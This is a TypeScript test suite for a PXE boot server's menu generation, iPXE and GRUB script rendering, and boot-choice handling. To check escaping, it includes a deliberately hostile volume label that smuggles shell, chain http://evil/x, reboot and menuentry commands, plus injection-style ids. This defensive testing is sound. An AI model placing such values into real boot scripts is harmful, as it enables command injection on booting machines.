import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Distro, Host, HostBoot } from '../../../electron/shared/contract.js';
import { buildBootMenu, menuEntries, parseMenuEntryId } from '../../../electron/core/boot/menu.js';
import { ipxeLabel } from '../../../electron/core/boot/ipxe-lines.js';
import { renderIpxeScript, renderIpxeTargetScript } from '../../../electron/core/boot/ipxe-script.js';
import { renderGrubMenu, grubTargetLines } from '../../../electron/core/boot/grub-menu.js';
import { renderGrubConfig, type GrubServer } from '../../../electron/core/boot/grub-config.js';
import { BootChoices } from '../../../electron/core/boot/menu-choice.js';
import { fixedTarget } from '../../../electron/core/boot/menu-targets.js';

const MAC = '52:54:00:12:34:56';
const BASE = 'http://10.231.200.1';
const TFTP: GrubServer = { ip: '10.231.200.1', httpPort: 80, via: 'tftp' };
/** A volume label that tries every way into iPXE's and GRUB's syntax. */
const HOSTILE = 'Evil ${net0/mac} $x ; shell\nchain http://evil/x || reboot && --key q "q\' } { `#` \\ menuentry';

function host(firmware: Host['firmware'] = 'bios', extra: Partial<Host> = {}): Host {
  return {
    mac: MAC,
    firmware,
    arch: 'x86_64',
    clientArch: firmware === 'bios' ? 0 : 7,
    ip: '10.231.200.100',
    state: 'discovered',
    distro: null,
    uuid: null,
    vendorClass: null,
    userClass: 'iPXE',
    hostname: null,
    firstSeen: '2025-01-01T00:00:00.000Z',
    lastSeen: '2025-01-01T00:00:00.000Z',
    chain: 'ipxe',
    ...extra,
  };
}

function distro(id: string, extra: Partial<Distro> = {}): Distro {
  return {
    id,
    family: 'debian',
    name: 'Debian',
    version: '12',
    arch: 'x86_64',
    variant: null,
    kernel: null,
    initrd: null,
    kernelArgs: '',
    iso: `/isos/${id}.iso`,
    isoSize: 1,
    isoMtime: '2025-01-01T00:00:00.000Z',
    volumeId: id,
    status: 'ok',
    evidence: [],
    importedAt: '2025-01-01T00:00:00.000Z',
    sha256: null,
    secureBoot: true,
    secureBootReason: null,
    boot: 'installer',
    bootReason: null,
    ...extra,
  } as Distro;
}

describe('buildBootMenu', () => {
  test('installers (confirmed), then tools; ids as HostBoot.entry; keys unique', () => {
    const menu = buildBootMenu({
      distros: [distro('debian-12'), distro('rocky-9', { name: 'Rocky Linux', version: '9.4' })],
      host: host(),
      chain: 'ipxe',
      liveBoots: false,
    });
    const entries = menuEntries(menu);
    assert.deepEqual(
      entries.map((e) => e.id),
      ['install:debian-12', 'install:rocky-9', 'memtest', 'local', 'reboot', 'shell'],
    );
    assert.match(entries[0]!.confirm ?? '', /ERASES/);
    assert.equal(entries.find((e) => e.id === 'memtest')!.confirm, null);
    const keys = entries.map((e) => e.key);
    assert.equal(new Set(keys).size, keys.length);
    assert.ok(!keys.includes('m') && !keys.includes('w'), 'm reopens the menu, w waits');
  });

  test('live and whole-ISO entries only once the live boots are handed in; other archs, missing ISOs and unsafe ids left out', () => {
    const distros = [
      distro('live-12', { boot: 'live' }),
      distro('gparted', { boot: 'whole-iso' }),
      distro('arm', { arch: 'arm64' }),
      distro('gone', { status: 'missing' }),
      distro('bad id;x'),
    ];
    assert.deepEqual(
      menuEntries(buildBootMenu({ distros, host: host(), chain: 'ipxe', liveBoots: false })).map((e) => e.id),
      ['memtest', 'local', 'reboot', 'shell'],
    );
    const withLive = menuEntries(buildBootMenu({ distros, host: host(), chain: 'ipxe', liveBoots: true }));
    assert.deepEqual(
      withLive.map((e) => e.id),
      ['live:live-12', 'iso:gparted', 'memtest', 'local', 'reboot', 'shell'],
    );
    assert.ok(withLive.every((e) => e.confirm === null));
  });

  test('signed chain: installers that boot under Secure Boot only, no iPXE shell', () => {
    const menu = buildBootMenu({
      distros: [distro('debian-12'), distro('alpine', { secureBoot: false })],
      host: host('uefi'),
      chain: 'signed',
      liveBoots: false,
    });
    assert.deepEqual(
      menuEntries(menu).map((e) => e.id),
      ['install:debian-12', 'memtest', 'local', 'reboot'],
    );
  });

  test('a BIOS PXE client (arch x86, width unknown) is offered the x86 builds and memtest', () => {
    const menu = buildBootMenu({
      distros: [distro('debian-12'), distro('old', { arch: 'i386' }), distro('arm', { arch: 'arm64' })],
      host: host('bios', { arch: 'x86' }),
      chain: 'ipxe',
      liveBoots: false,
    });
    assert.deepEqual(
      menuEntries(menu).map((e) => e.id),
      ['install:debian-12', 'install:old', 'memtest', 'local', 'reboot', 'shell'],
    );
  });

  test('parseMenuEntryId', () => {
    assert.deepEqual(parseMenuEntryId('install:rocky-9.4-x86_64'), { kind: 'install', distro: 'rocky-9.4-x86_64' });
    assert.deepEqual(parseMenuEntryId('memtest'), { kind: 'memtest', distro: null });
    for (const bad of ['install:', 'install:a b', 'install:${x}', 'foo', 'memtest;shell', 'live:../x/'.slice(0, 0)])
      assert.equal(parseMenuEntryId(bad), null, bad);
  });
});

describe('iPXE: the menu in the wait loop', () => {
  const menuOf = (distros: Distro[] = [distro('debian-12')]) => buildBootMenu({ distros, host: host(), chain: 'ipxe', liveBoots: false });

  test('wait policy: first fetch opens the menu, its timeout is the wait loop; m reopens it while polling', () => {
    const s = renderIpxeScript({
      mac: MAC,
      host: host(),
      serverBase: BASE,
      pollSeconds: 5,
      menu: { menu: menuOf(), policy: 'wait', timeoutSeconds: 10 },
    });
    const lines = s.split('\n');
    assert.equal(lines[0], '#!ipxe');
    assert.ok(lines.includes('goto bb_menu'));
    assert.ok(lines.includes('choose --timeout 10000 --default bb_wait bb_choice || goto bb_poll'));
    assert.ok(lines.includes('item --key 1 install:debian-12 (1) Install Debian 12'));
    assert.ok(lines.includes('item --key t memtest (t) Memory test (memtest86+)'));
    assert.ok(lines.includes('item --key s shell (s) iPXE shell'));
    assert.ok(lines.includes('iseq ${bb_choice} install:debian-12 && goto bb_confirm0 ||'));
    assert.ok(lines.includes(':bb_confirm0'));
    assert.ok(lines.includes('item --key y bb_yes (y) Yes, erase the disk and install Debian 12'));
    assert.ok(lines.includes(`chain --replace --autofree ${BASE}/ipxe/52-54-00-12-34-56/choose/\${bb_choice} || goto bb_menu`));
    assert.ok(lines.includes('prompt --key m --timeout 5000 && goto bb_menu ||'));
    assert.ok(lines.includes(`chain --replace --autofree ${BASE}/ipxe/52-54-00-12-34-56.ipxe?poll=1 || goto bb_poll`));
    // A poll starts in the loop, without the banner.
    const poll = renderIpxeScript({
      mac: MAC,
      host: host(),
      serverBase: BASE,
      pollSeconds: 5,
      poll: true,
      menu: { menu: menuOf(), policy: 'wait', timeoutSeconds: 10 },
    });
    assert.equal(poll.split('\n')[2], 'goto bb_poll');
    assert.ok(!poll.includes('Waiting for Bootbench'));
  });

  test('wait policy with timeout 0: no menu unless m is pressed', () => {
    const s = renderIpxeScript({
      mac: MAC,
      host: host(),
      serverBase: BASE,
      pollSeconds: 5,
      menu: { menu: menuOf(), policy: 'wait', timeoutSeconds: 0 },
    });
    assert.ok(s.includes('\ngoto bb_poll\n'));
  });

  test('menu policy: the menu stays up; its timeout re-reads the state (a click still boots)', () => {
    for (const poll of [false, true]) {
      const s = renderIpxeScript({
        mac: MAC,
        host: host(),
        serverBase: BASE,
        pollSeconds: 5,
        poll,
        menu: { menu: menuOf(), policy: 'menu', timeoutSeconds: 10 },
      });
      const lines = s.split('\n');
      assert.ok(lines.includes('goto bb_menu'));
      assert.ok(lines.includes('choose --timeout 10000 --default bb_reread bb_choice || goto bb_reread'));
      assert.ok(lines.includes(`chain --replace --autofree ${BASE}/ipxe/52-54-00-12-34-56.ipxe?poll=1 || goto bb_menu`));
    }
  });

  test('local policy: the local disk, no menu', () => {
    const s = renderIpxeScript({
      mac: MAC,
      host: host(),
      serverBase: BASE,
      pollSeconds: 5,
      menu: { menu: menuOf(), policy: 'local', timeoutSeconds: 10 },
    });
    assert.ok(s.includes('sanboot --no-describe --drive 0x80 || exit 1'));
    assert.ok(!s.includes('menu '));
  });

  test('a hostile label cannot inject iPXE commands', () => {
    const evil = distro('evil', { name: HOSTILE, version: '${platform}' });
    const s = renderIpxeScript({
      mac: MAC,
      host: host(),
      serverBase: BASE,
      pollSeconds: 5,
      menu: { menu: menuOf([evil]), policy: 'wait', timeoutSeconds: 10 },
    });
    const lines = s.split('\n');
    const labelLines = lines.filter((l) => l.includes('Evil'));
    assert.equal(labelLines.length, 3, s); // the item, the confirmation's title and its yes
    for (const l of labelLines) {
      assert.ok(!/[$;"'`{}\\#|&]/.test(l.replace(/^item --key [0-9a-z] /, '')), l);
      assert.ok(!/\s--/.test(l.replace(/^item --key/, 'item')), l);
    }
    assert.ok(
      lines.includes('item --key 1 install:evil (1) Install Evil net0/mac x shell chain http://evil/x reboot key q q menuentry platform'),
    );
    for (const l of lines) assert.ok(!/^(?:shell|chain http:\/\/evil|reboot &&)/.test(l), l);
    // Every ${…} is one of the script's own.
    const settings: string[] = [...(s.match(/\$\{[^}]*\}/g) ?? [])];
    assert.deepEqual(
      [...new Set(settings)].sort(),
      ['${bb_answer}', '${bb_choice}', '${net0/ip}', '${net0/mac}', '${platform}'].filter((x) => settings.includes(x)).sort(),
    );
    assert.ok(!settings.includes('${platform}') || s.includes('iseq ${platform} pcbios'));
    assert.equal(ipxeLabel('--key x -y a-b'), 'key x y a-b');
  });

  test('a chosen target: memtest as a kernel (BIOS), as an EFI program (UEFI), with the serial console', () => {
    const bios = renderIpxeTargetScript({ mac: MAC, host: host('bios'), serverBase: BASE }, fixedTarget('memtest', host('bios'), BASE)!);
    assert.ok(bios.includes(`kernel ${BASE}/boot/memtest-x64.bin console=ttyS0,115200 || goto bb_failed`));
    assert.ok(bios.includes('boot || goto bb_failed'));
    const efi = renderIpxeTargetScript({ mac: MAC, host: host('uefi'), serverBase: BASE }, fixedTarget('memtest', host('uefi'), BASE)!);
    assert.ok(efi.includes(`chain ${BASE}/boot/memtest-x64.efi console=ttyS0,115200 || goto bb_failed`));
    assert.ok(renderIpxeTargetScript({ mac: MAC, host: host('uefi'), serverBase: BASE }, { kind: 'local' }).includes('\nexit 1\n'));
    assert.ok(renderIpxeTargetScript({ mac: MAC, host: host(), serverBase: BASE }, { kind: 'reboot' }).includes('\nreboot\n'));
    assert.ok(renderIpxeTargetScript({ mac: MAC, host: host(), serverBase: BASE }, { kind: 'shell' }).includes('\nshell\n'));
    assert.ok(
      renderIpxeTargetScript(
        { mac: MAC, host: host(), serverBase: BASE },
        { kind: 'sanboot', title: 'X', url: `${BASE}/iso/x.iso` },
      ).includes(`sanboot --no-describe ${BASE}/iso/x.iso`),
    );
  });
});

describe('GRUB: the menu of the signed chain', () => {
  const menuOf = (distros: Distro[] = [distro('debian-12')]) =>
    buildBootMenu({ distros, host: host('uefi'), chain: 'signed', liveBoots: false });

  test('a waiting host’s config opens the menu file under the menu policy; local boots the disk; wait: the old loop', () => {
    const base = { mac: MAC, host: host('uefi'), server: TFTP, pollSeconds: 5 };
    const withMenu = renderGrubConfig({ ...base, waitPolicy: 'menu' });
    assert.ok(withMenu.includes("configfile '(tftp,10.231.200.1)/grub/menu/52-54-00-12-34-56.cfg'"));
    // `wait`: today's loop, unchanged (GRUB's time-polling loops under OVMF/TCG: grub-config.ts).
    assert.equal(renderGrubConfig({ ...base, waitPolicy: 'wait' }), renderGrubConfig(base));
    assert.ok(renderGrubConfig({ ...base, waitPolicy: 'local' }).includes('\nexit 1\n'));
    assert.ok(!renderGrubConfig(base).includes('configfile'));
  });

  test('wait: timeout to the wait loop (Esc reopens the menu); installers confirmed in a submenu; memtest only without lockdown', () => {
    const s = renderGrubMenu({ mac: MAC, menu: menuOf(), policy: 'wait', timeoutSeconds: 10, pollSeconds: 5, server: TFTP, heading: 'x' });
    const lines = s.split('\n');
    assert.ok(lines.includes('set timeout=10') && lines.includes('set default=bb_wait'));
    assert.ok(lines.includes("submenu '(1) Install Debian 12' --hotkey=1 --id=install:debian-12 {"));
    assert.ok(
      lines.some((l) =>
        l.includes(
          "'(y) Yes, erase the disk and install Debian 12' --hotkey=y { source '(tftp,10.231.200.1)/grub/choose/52-54-00-12-34-56/install:debian-12.cfg'; }",
        ),
      ),
    );
    assert.ok(lines.includes('if [ "${lockdown}" = "y" ]; then'));
    assert.ok(s.includes('not available under Secure Boot'));
    assert.ok(lines.includes("    if ! sleep -v -i 5; then configfile '(tftp,10.231.200.1)/grub/menu/52-54-00-12-34-56.cfg'; fi"));
    assert.ok(lines.includes("    source '(tftp,10.231.200.1)/grub/poll/52-54-00-12-34-56.cfg'"));
    assert.ok(!s.includes('shell'));
    const menu = renderGrubMenu({
      mac: MAC,
      menu: menuOf(),
      policy: 'menu',
      timeoutSeconds: 0,
      pollSeconds: 5,
      server: TFTP,
      heading: 'x',
    });
    assert.ok(menu.includes('set timeout=30\nset default=bb_reread'));
  });

  test('a hostile label stays inside one quoted word', () => {
    const evil = distro('x1', { name: HOSTILE });
    const s = renderGrubMenu({
      mac: MAC,
      menu: menuOf([evil]),
      policy: 'wait',
      timeoutSeconds: 10,
      pollSeconds: 5,
      server: TFTP,
      heading: HOSTILE,
    });
    for (const line of s.split('\n')) {
      // What is left outside single quotes (GRUB's lexer: `\'` outside quotes is a quote character).
      const bare = outsideQuotes(line);
      assert.ok(!/evil|Evil|shell|\$x|`/.test(bare), line);
      if (bare.includes('$')) assert.equal(bare, 'if [ "${lockdown}" = "y" ]; then');
    }
    assert.equal(s.split('\n').filter((l) => l.includes('Evil')).length, 3);
  });

  test(
    'the menu and every target parse in GRUB itself (grub-script-check), the hostile label included',
    { skip: spawnSync('grub-script-check', ['--version']).status !== 0 && 'grub-script-check (grub-common) is not installed' },
    () => {
      const evil = distro('x1', { name: HOSTILE });
      const texts = [
        renderGrubMenu({
          mac: MAC,
          menu: menuOf([evil]),
          policy: 'wait',
          timeoutSeconds: 10,
          pollSeconds: 5,
          server: TFTP,
          heading: HOSTILE,
        }),
        renderGrubMenu({ mac: MAC, menu: menuOf([evil]), policy: 'menu', timeoutSeconds: 0, pollSeconds: 5, server: TFTP, heading: 'x' }),
        renderGrubConfig({ mac: MAC, host: host('uefi'), server: TFTP, pollSeconds: 5, waitPolicy: 'menu' }),
        ...(['memtest', 'local', 'reboot', 'shell'] as const).map((e) =>
          grubTargetLines(fixedTarget(e, host('uefi'), BASE)!, TFTP).join('\n'),
        ),
        grubTargetLines(
          { kind: 'kernel', boot: { title: HOSTILE, kernelUrl: `${BASE}/k`, initrds: [{ url: `${BASE}/i`, name: 'i' }], args: [HOSTILE] } },
          TFTP,
        ).join('\n'),
      ];
      const dir = mkdtempSync(join(tmpdir(), 'mnu-grubcfg-'));
      try {
        texts.forEach((text, i) => {
          const file = join(dir, `${i}.cfg`);
          writeFileSync(file, text);
          const r = spawnSync('grub-script-check', [file], { encoding: 'utf8' });
          assert.equal(r.status, 0, `${r.stdout}${r.stderr}\n${text}`);
        });
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
  );

  test('targets: memtest EFI by chainloader from the TFTP root, local, reboot', () => {
    const memtest = grubTargetLines(fixedTarget('memtest', host('uefi'), 'http://10.231.200.1')!, TFTP).join('\n');
    assert.ok(memtest.includes("chainloader '(tftp,10.231.200.1)/memtest-x64.efi' 'console=ttyS0,115200'"), memtest);
    assert.ok(grubTargetLines({ kind: 'local' }, TFTP).includes('exit 1'));
    assert.ok(grubTargetLines({ kind: 'reboot' }, TFTP).includes('reboot'));
  });
});

function outsideQuotes(line: string): string {
  let out = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted) {
      if (c === "'") quoted = false;
    } else if (c === "'") {
      quoted = true;
      out += "''";
    } else if (c === '\\') i++;
    else out += c;
  }
  assert.equal(quoted, false, `unterminated quote: ${line}`);
  return out;
}

describe('BootChoices', () => {
  function setup(extra: { host?: Host } = {}) {
    const hosts = new Map<string, Host>([[MAC, extra.host ?? host()]]);
    const queued: string[] = [];
    const logs: string[] = [];
    const choices = new BootChoices({
      hosts: {
        get: (mac) => hosts.get(mac),
        setLastBoot: (mac: string, lastBoot: HostBoot | null) => {
          const h = { ...hosts.get(mac)!, lastBoot };
          hosts.set(mac, h);
          return h;
        },
      },
      distros: () => [distro('debian-12')],
      queueInstall: async (mac, d) => {
        queued.push(`${mac} ${d}`);
        hosts.set(mac, { ...hosts.get(mac)!, state: 'queued', distro: d });
      },
      log: (_level, _mac, kind, message) => logs.push(`${kind}: ${message}`),
      now: () => new Date('2026-01-01T00:00:00Z'),
    });
    return { hosts, queued, logs, choices };
  }
  const client = { serverBase: BASE, ip: '10.231.200.100', chain: 'ipxe' as const };

  test('an installer chosen at the machine is queued as a click would, and recorded', async () => {
    const { hosts, queued, logs, choices } = setup();
    const outcome = await choices.choose(MAC, 'install:debian-12', client);
    assert.equal(outcome.kind, 'install');
    assert.deepEqual(queued, [`${MAC} debian-12`]);
    assert.deepEqual(hosts.get(MAC)!.lastBoot, {
      entry: 'install:debian-12',
      title: 'Install Debian 12',
      chosenAt: 'machine',
      at: '2026-01-01T00:00:00.000Z',
    });
    assert.match(logs.join('\n'), /boot\.menu-choice: Boot menu at the machine: Install Debian 12/);
  });

  test("a machine chooses only for itself: a choice or a pending boot asked from another machine's address is refused", async () => {
    const { hosts, queued, logs, choices } = setup();
    const other = { ...client, ownerMac: '52:54:00:99:99:99' };
    const outcome = await choices.choose(MAC, 'install:debian-12', other);
    assert.equal(outcome.kind, 'refused');
    assert.deepEqual(queued, [], "nothing queued: no disk is erased on another machine's word");
    assert.equal(hosts.get(MAC)!.lastBoot ?? null, null);
    assert.match(logs.join('\n'), /boot\.menu-refused: .*a machine chooses only for itself/);
    choices.setNext(MAC, 'memtest');
    assert.equal(await choices.takeNext(MAC, other), null, 'another machine does not take it');
    assert.equal((await choices.takeNext(MAC, { ...client, ownerMac: MAC }))?.kind, 'kernel', 'the machine itself does');
    assert.equal((await choices.choose(MAC, 'install:debian-12', { ...client, ownerMac: MAC })).kind, 'install');
  });

  test('memtest at the machine: its target, recorded; an entry not on the menu is refused', async () => {
    const { hosts, choices } = setup();
    const outcome = await choices.choose(MAC, 'memtest', client);
    assert.equal(outcome.kind, 'target');
    assert.equal(hosts.get(MAC)!.lastBoot?.entry, 'memtest');
    assert.equal((await choices.choose(MAC, 'install:nope', client)).kind, 'refused');
    assert.equal((await choices.choose(MAC, 'live:debian-12', client)).kind, 'refused');
  });

  test('"boot this next" from the app: checked, one-shot', async () => {
    const { hosts, choices } = setup();
    const h = choices.setNext(MAC, 'local');
    assert.equal(h.lastBoot?.chosenAt, 'app');
    assert.throws(() => choices.setNext(MAC, 'install:debian-12'), /install route/);
    assert.throws(() => choices.setNext(MAC, 'bogus'), /not a boot menu entry/);
    assert.throws(
      () => choices.setNext('52:54:00:00:00:01', 'local'),
      (e: Error & { code?: string }) => e.code === 'HOST_NOT_FOUND',
    );
    assert.deepEqual(await choices.takeNext(MAC, client), { kind: 'local' });
    assert.equal(await choices.takeNext(MAC, client), null);
    assert.equal(hosts.get(MAC)!.lastBoot?.entry, 'local');
  });
});
